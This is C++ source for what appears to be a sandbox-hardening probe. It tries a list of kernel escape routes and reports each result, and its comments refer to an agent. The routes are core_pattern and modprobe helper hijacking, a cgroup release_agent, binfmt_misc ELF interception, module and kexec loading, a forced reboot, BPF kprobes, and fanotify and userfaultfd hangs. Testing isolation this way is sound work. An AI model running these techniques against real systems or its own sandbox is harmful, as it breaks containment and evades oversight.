#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <string_view>

#include "escape.h"

namespace escape {
namespace {

std::string kexec_load() { return try_call(SYS_kexec_load, 0, 0, 0, 0); }
std::string kexec_file_load() { return try_call(SYS_kexec_file_load, -1, -1, 0, 0, 0); }
std::string init_module() { return try_call(SYS_init_module, 0, 0, 0); }
std::string finit_module() { return try_call(SYS_finit_module, -1, 0, 0); }
std::string sysrq() { return try_write("/proc/sysrq-trigger", "b"); }
std::string sysrq_setting() { return try_write("/proc/sys/kernel/sysrq", "1"); }
std::string modprobe_helper() { return try_write("/proc/sys/kernel/modprobe", kHelper); }
std::string uevent_helper() { return try_write("/sys/kernel/uevent_helper", kHelper); }
std::string suspended() { return try_write("/sys/power/state", "mem"); }
std::string page_taken_offline() {
  return try_write("/sys/devices/system/memory/hard_offline_page", "0x1000000");
}
std::string restart_vector() { return try_call(SYS_reboot, 0xfee1dead, 672274793, 0x45584543, 0); }

// Whether the kernel said that it would have written one's core to this helper.
bool says_of_core(const std::string& helper) {
  const int log = ::open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  std::array<char, 8192> line;
  bool found = false;
  while (log >= 0 && !found) {
    const ssize_t n = ::read(log, line.data(), line.size());
    if (n < 0 && errno == EPIPE) continue;  // lines were lost meanwhile
    if (n <= 0) break;
    const std::string_view text(line.data(), static_cast<size_t>(n));
    found = text.find("Core dump to |" + helper) != std::string_view::npos;
  }
  ::close(log);
  return found;
}

// Who crashes is waited for until the helper has read the core, so that its trace is there by then.
std::string core_pattern() {
  const std::string before = content_of("/proc/sys/kernel/core_pattern");
  const std::string helper = kHelper + std::string(" helper");
  if (const auto said = try_write("/proc/sys/kernel/core_pattern", "|" + helper); said != "ok") {
    return said;
  }
  const pid_t pid = ::fork();
  if (pid == 0) {
    const rlimit both{RLIM_INFINITY, RLIM_INFINITY};
    ::setrlimit(RLIMIT_CORE, &both);
    ::signal(SIGSEGV, SIG_DFL);
    ::raise(SIGSEGV);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  try_write("/proc/sys/kernel/core_pattern", before);
  if (has_trace()) return "ran";
  return says_of_core(kHelper) ? "nothing ran" : "not tried";
}

std::string release_agent() {
  std::string error;
  const std::string place = mounted("cgroup", "none,name=escape", error);
  if (place.empty()) return error;
  try_write(place + "/release_agent", kHelper);
  ::mkdir((place + "/x").c_str(), 0755);
  try_write(place + "/x/notify_on_release", "1");
  if (const pid_t pid = ::fork(); pid == 0) {
    try_write(place + "/x/cgroup.procs", "0");
    ::_exit(0);
  } else {
    int status = 0;
    ::waitpid(pid, &status, 0);
  }
  ::usleep(300000);
  return has_trace() ? "ran" : "mounted";
}

// Whoever may say what runs in place of an ELF file runs in place of the agent's next process.
std::string binfmt_misc() {
  std::string error;
  const std::string place = mounted("binfmt_misc", "", error);
  if (place.empty()) return error;
  const std::string rule =
      ":escape:M::\\x7fELF\\x02\\x01\\x01:\\xff\\xff\\xff\\xff\\xff\\xff\\xff:/escape:F";
  const std::string said = try_write(place + "/register", rule);
  if (said == "ok") try_write(place + "/escape", "-1");
  return "register " + said;
}

std::string traced_kernel() {
  std::string error;
  const std::string place = mounted("tracefs", "", error);
  return place.empty() ? error : "mounted";
}

std::string debugged_kernel() {
  std::string error;
  const std::string place = mounted("debugfs", "", error);
  return place.empty() ? error : "mounted";
}

std::string probed_kernel() {
  bpf_insn program[2] = {};
  program[0].code = BPF_ALU64 | BPF_MOV | BPF_K;
  program[1].code = BPF_JMP | BPF_EXIT;
  bpf_attr wanted{};
  wanted.prog_type = BPF_PROG_TYPE_KPROBE;
  wanted.insns = reinterpret_cast<uint64_t>(program);
  wanted.insn_cnt = 2;
  wanted.license = reinterpret_cast<uint64_t>("GPL");
  return try_call(SYS_bpf, BPF_PROG_LOAD, reinterpret_cast<long>(&wanted), sizeof wanted);
}

// An agent that opens a file would wait for whoever watches the file system.
std::string opening_held_up() {
  std::string error;
  const std::string place = mounted("devtmpfs", "", error);
  if (place.empty()) return error;
  const int group = ::fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY);
  if (group < 0) return "init " + error_name(errno);
  return error_name(::fanotify_mark(group, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_PERM,
                                    AT_FDCWD, place.c_str()) == 0
                        ? 0
                        : errno);
}

// Output that is not there until it says so. Ends by the alarm, if nobody but itself waits for it.
std::string output_that_never_comes() {
  constexpr size_t kSize = 4096;
  const long faults = ::syscall(SYS_userfaultfd, O_CLOEXEC);
  if (faults < 0) return error_name(errno);
  uffdio_api api{};
  api.api = UFFD_API;
  void* page = ::mmap(nullptr, kSize, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  uffdio_register area{};
  area.range = {reinterpret_cast<uint64_t>(page), kSize};
  area.mode = UFFDIO_REGISTER_MODE_MISSING;
  const int fd = static_cast<int>(faults);
  if (::ioctl(fd, UFFDIO_API, &api) != 0 || ::ioctl(fd, UFFDIO_REGISTER, &area) != 0) {
    return error_name(errno);
  }
  ::alarm(1);
  return "wrote " + std::to_string(::write(STDERR_FILENO, page, kSize));
}

constexpr Attempt kAttempts[] = {
    {"kexec_load", kexec_load},
    {"kexec_file_load", kexec_file_load},
    {"init_module", init_module},
    {"finit_module", finit_module},
    {"sysrq", sysrq},
    {"sysrq_setting", sysrq_setting},
    {"modprobe_helper", modprobe_helper},
    {"uevent_helper", uevent_helper},
    {"suspended", suspended},
    {"page_taken_offline", page_taken_offline},
    {"restart_vector", restart_vector},
    {"core_pattern", core_pattern},
    {"release_agent", release_agent},
    {"binfmt_misc", binfmt_misc},
    {"traced_kernel", traced_kernel},
    {"debugged_kernel", debugged_kernel},
    {"probed_kernel", probed_kernel},
    {"opening_held_up", opening_held_up},
    {"output_that_never_comes", output_that_never_comes},
};

}  // namespace

std::span<const Attempt> kernel_attempts() { return kAttempts; }

}  // namespace escape
